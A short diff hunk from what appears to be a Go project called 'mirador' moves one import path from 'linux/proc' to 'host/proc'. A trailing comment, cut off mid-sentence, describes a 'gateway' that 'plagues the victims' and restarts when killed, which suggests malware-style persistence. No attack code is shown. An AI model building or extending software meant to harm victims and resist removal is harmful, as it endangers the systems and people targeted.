@@ -16,7 +16,7 @@ import (
 	"time"
 
 	"mirador/cli/client"
-	"mirador/omis/linux/proc"
+	"mirador/omis/host/proc"
 )
 
 // gateway is the mirador that plagues the victims. When it is killed it is started
